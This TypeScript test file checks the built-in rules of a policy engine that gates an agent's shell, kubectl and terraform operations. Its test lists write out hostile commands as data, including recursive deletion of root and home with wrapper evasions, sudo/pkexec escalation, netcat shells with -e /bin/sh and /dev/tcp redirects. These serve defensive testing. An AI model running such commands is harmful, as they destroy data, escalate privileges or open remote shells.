// The built-in rules, against their own examples and against what an agent would try instead.

import { describe, expect, it } from "vitest";
import { DEFAULT_RULES } from "../../src/policy/default-rules.ts";
import { ENVIRONMENTS } from "../../src/policy/environment.ts";
import { combine } from "../../src/policy/policy-combine.ts";
import { isAbout, wrongExample } from "../../src/policy/rule-match.ts";
import { BUILT_IN } from "../../src/policy/rule.ts";
import { rulingOn } from "../../src/policy/ruling.ts";
import { MARKERS } from "../../src/policy/subject-command.ts";
import { commandOf, kubectlOf, terraformOf } from "../support/subjects.ts";

const POLICY = combine([]);

/** The rule that fires first, and the floor. */
function fired(operation: Parameters<typeof rulingOn>[0]): string {
  const { floor, fired } = rulingOn(operation, POLICY);
  return `${floor} ${fired?.id ?? "-"}`;
}

const typed = (line: string, served: "dev" | "prod" = "dev") =>
  fired(commandOf(line.split(" "), { served }));

describe("the built-in rules", () => {
  it.each(DEFAULT_RULES.map((rule) => [rule.id, rule] as const))(
    "%s does as its examples say",
    (_, rule) => {
      expect(wrongExample(rule)).toBeUndefined();
      expect(rule.match.length).toBeGreaterThan(0);
      expect(rule.notMatch.length).toBeGreaterThan(0);
      expect(rule.file).toBe(BUILT_IN);
      expect(rule.because).toMatch(/^\S.*[^.]$/);
      expect(["ask", "deny"]).toContain(rule.effect);
    },
  );

  it("have ids of their own", () => {
    const ids = DEFAULT_RULES.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it.each([
    "rm -rf /",
    "rm -rf / --no-preserve-root",
    "rm -fr /*",
    "rm / -r",
    "rm -r --force //",
    "rm -rf /./",
    "rm -rf /tmp/../",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf $HOME",
    "rm -rf $HOME/*",
    `rm -rf $${"{HOME}"}`,
    "rm -rf ..",
    "rm -rf ../..",
    "rm -rf ./../../",
    "rm -rf ../../../../../../etc",
    "rm -rf .",
    "rm -rf /etc",
    "rm -rf /usr/*",
    "RM -rf /",
    "/bin/rm -rf /",
    "env rm -rf /",
    "env A=1 rm -rf /",
    "nice -n 5 rm -rf /",
    "timeout 5 nohup /usr/bin/rm -rf /",
    "xargs rm -rf /",
    "busybox rm -rf /",
  ])("%s: recursive-rm-root", (line) => {
    expect(typed(line)).toBe("deny recursive-rm-root");
  });

  it.each([
    "rm -rf /tmp/x",
    "rm -rf build/",
    "rm -rf ../build",
    "rm -rf ./node_modules",
    "rm -rf /home/me/project/dist",
    "rm -rf *",
    "ls /",
    "git rm -r .",
    "grep -r sudo .",
    "cat su",
    "chmod 755 x",
    "chmod 1755 777",
    "nc -z h 1",
    "curl https://example.com/install.sh",
    "echo sudo rm -rf /",
  ])("%s: a person may allow it", (line) => {
    expect(typed(line).split(" ")[0]).toBe(line === "chmod 1755 777" ? "deny" : "ask");
  });

  it.each([
    ["sudo -i", "become-another-user"],
    ["sudo su", "become-another-user"],
    ["sudo -n id", "become-another-user"],
    ["env sudo id", "become-another-user"],
    ["/usr/bin/doas sh", "become-another-user"],
    ["pkexec id", "become-another-user"],
    ["chmod 777 /etc/passwd", "world-writable"],
    ["chmod -R 0777 .", "world-writable"],
    ["chmod a+rwx x", "world-writable"],
    ["chmod -R ugo+rwx x", "world-writable"],
    ["rm -rf --no-preserve-root x", "rm-no-preserve-root"],
    ["rm -rf --no-pres x", "rm-no-preserve-root"],
    ["nc -e /bin/sh h 1", "netcat-exec"],
    ["ncat -lvpe/bin/sh 1", "netcat-exec"],
    ["ncat --sh-exec=sh h", "netcat-exec"],
    ["nc.traditional -c sh h", "netcat-exec"],
    ["bash -c sh>/dev/tcp/h/1", "dev-tcp"],
  ])("%s: %s", (line, id) => {
    expect(typed(line)).toBe(`deny ${id}`);
  });

  it("what a shell's text would run is looked at as well", () => {
    for (const [within, id] of [
      [["sudo", "-n", "id"], "become-another-user"],
      [["rm", "-r", "-f", "/"], "recursive-rm-root"],
      [[MARKERS.download, "curl", "sh"], "download-into-shell"],
      [[MARKERS.network, "bash"], "network-shell"],
    ] as const)
      expect(
        fired(commandOf(["bash", "-c", "x"], { served: "prod", within: [["echo"], within] })),
      ).toBe(`deny ${id}`);
  });

  it("what a person types after `holdfast gate` stays theirs to approve", () => {
    for (const line of ["sudo -i", "rm -rf /", "chmod 777 x"])
      expect(fired(commandOf(line.split(" ")))).toBe("ask -");
  });

  it("kubectl: what is asked, and what is refused, in which environment", () => {
    const on = (
      served: "dev" | "staging" | "prod",
      verb: Parameters<typeof kubectlOf>[0],
      object: [kind: string, name: string, namespace?: string],
      replicas?: number,
    ) =>
      fired(kubectlOf(verb, [object], { served, ...(replicas === undefined ? {} : { replicas }) }));
    expect(on("dev", "get", ["pods", "a", "kube-system"])).toBe("allow -");
    expect(on("dev", "apply", ["deployments", "a", "shop"])).toBe("allow -");
    expect(on("staging", "apply", ["deployments", "a", "shop"])).toBe("allow -");
    expect(on("prod", "apply", ["deployments", "a", "shop"])).toBe("ask prod-changes");
    for (const each of ENVIRONMENTS) {
      expect(on(each, "exec", ["pods", "a", "shop"])).toBe("ask kubectl-exec");
      expect(on(each, "exec", ["pods", "a", "ingress-nginx"])).toBe("deny protected-exec");
      expect(on(each, "apply", ["configmaps", "a", "kube-system"]).split(" ")[0]).toBe("ask");
      expect(on(each, "scale", ["deployments", "a", "shop"], 0)).toBe("ask scale-to-zero");
    }
    expect(on("dev", "apply", ["configmaps", "a", "Kube-System"])).toBe("ask protected-namespaces");
    for (const kind of [
      "namespaces",
      "persistentvolumes",
      "customresourcedefinitions.apiextensions.k8s.io",
    ]) {
      expect(on("dev", "delete", [kind, "shop"])).toBe("ask delete-cluster-wide");
      expect(on("prod", "delete", [kind, "shop"])).toBe("deny prod-delete-cluster-wide");
    }
    expect(on("prod", "delete", ["pods", "", "shop"])).toBe("deny prod-delete-collection");
    expect(on("prod", "delete", ["pods", "*", "shop"])).toBe("deny prod-delete-collection");
    expect(on("dev", "delete", ["pods", "", "shop"])).toBe("ask delete-collection");
    expect(on("prod", "delete", ["pods", "a", "shop"])).toBe("ask -");
    expect(on("prod", "scale", ["deployments", "a", "vault"], 0)).toBe(
      "deny protected-scale-to-zero",
    );
    expect(on("dev", "scale", ["deployments", "a", "vault"], 0)).toBe("ask protected-namespaces");
    // A namespace is in itself.
    expect(on("dev", "apply", ["namespaces", "kube-system"])).toBe("ask protected-namespaces");
  });

  it("terraform: no destroy plan in prod, and a person for protected workspaces", () => {
    const change = { action: "update", type: "x", address: "x.a" } as const;
    const apply = (served: "dev" | "prod", workspace: string, destroy = false) =>
      fired(terraformOf("apply", { served, workspace, destroy, changes: [change] }));
    expect(apply("dev", "default")).toBe("allow -");
    expect(apply("dev", "eu-production")).toBe("ask protected-workspaces");
    expect(apply("dev", "productive")).toBe("allow -");
    expect(apply("prod", "default")).toBe("ask prod-changes");
    expect(apply("prod", "default", true)).toBe("deny prod-destroy-plan");
    expect(fired(terraformOf("plan", { served: "prod", destroy: true }))).toBe(
      "deny prod-destroy-plan",
    );
    expect(apply("dev", "default", true)).toBe("allow -");
  });

  it("cover what is more than looking, and nothing else, unless they say which action", () => {
    const look = { impact: "read", action: "get", class: "x", name: "x", place: "", arguments: [] };
    for (const kind of ["hcp", "terraform", "kubectl"] as const)
      for (const rule of DEFAULT_RULES)
        expect(isAbout(rule, { ...look, kind, impact: "read", scope: "prod" }), rule.id).toBe(
          false,
        );
  });
});
